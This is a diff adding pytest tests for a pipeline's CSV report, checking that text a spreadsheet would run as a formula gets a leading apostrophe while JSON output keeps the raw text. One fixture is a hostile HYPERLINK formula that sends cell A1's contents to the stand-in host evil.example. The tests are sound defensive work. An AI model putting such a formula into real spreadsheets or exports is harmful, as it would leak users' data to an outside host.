@@ -212,3 +212,60 @@ def test_the_summary_counts_possible_duplicates_of_every_run_as_status_does(fold
     assert summary.estimated_cost == pytest.approx((5 + 2) * 0.03)  # the same jobs the cost counts
     assert "possible duplicates: 2 (jobs the API may have taken without a usable answer" in format_summary(summary)
     assert "possible duplicates" not in format_summary(summarize(make_folder(folder.parent / "clean").path))
+
+
+HOSTILE_ERROR = '=HYPERLINK("https://evil.example/?"&A1, "retry")'
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text(tmp_path: Path) -> None:
+    make_folder(tmp_path)
+    with StateStore.for_output_dir(tmp_path) as store:
+        store.update("j003", error=HOSTILE_ERROR)  # a hostile API's "reason"
+    folder = open_output(tmp_path)
+    frame = pd.read_csv(write_report(folder), keep_default_na=False)
+    failed = frame.set_index("job_id").loc["j003"]
+    assert failed["error"] == "'" + HOSTILE_ERROR
+    # the other formats, and the notebook's frame, keep the API's text exactly
+    records = pd.read_json(write_report(folder, fmt="json"), orient="records")
+    assert records.set_index("job_id").loc["j003", "error"] == HOSTILE_ERROR
+    assert report_frame(folder.jobs).set_index("job_id").loc["j003", "error"] == HOSTILE_ERROR
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("=1+1", "'=1+1"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("+ bokeh, 35mm", "'+ bokeh, 35mm"),
+        ("-- moody", "'-- moody"),
+        ("\tcmd", "'\tcmd"),
+        ("-1", "-1"),  # plain numbers are numbers in a spreadsheet too: kept
+        ("+3.5", "+3.5"),
+        ("-2e5", "-2e5"),
+        ("-1\n=2", "'-1\n=2"),  # a number only up to a line end is not a number
+        ("a cat = a dog", "a cat = a dog"),
+    ],
+)
+def test_spreadsheet_safe_marks_formula_text_only(text: str, shown: str) -> None:
+    from seedream_pipe.outputs.report import spreadsheet_safe
+
+    frame = pd.DataFrame({"label": [text, None], "width": [1024, None]})
+    safe = spreadsheet_safe(frame)
+    assert safe["label"][0] == shown
+    assert pd.isna(safe["label"][1]) and safe["width"][0] == 1024
+    assert frame["label"][0] == text  # the frame given is left as it was
+
+
+def test_spreadsheet_safe_reads_columns_of_mixed_and_no_text() -> None:
+    from seedream_pipe.outputs.report import spreadsheet_safe
+
+    # an axis over a param holds numbers or booleans beside text, or no text at all
+    frame = pd.DataFrame(
+        {
+            "mixed": pd.Series([1, "=x", None, 2.5, True], dtype=object),
+            "flags": pd.Series([True, None, False, True, None], dtype=object),
+        }
+    )
+    safe = spreadsheet_safe(frame)
+    assert safe["mixed"].tolist() == [1, "'=x", None, 2.5, True]
+    assert safe["flags"].tolist() == [True, None, False, True, None]
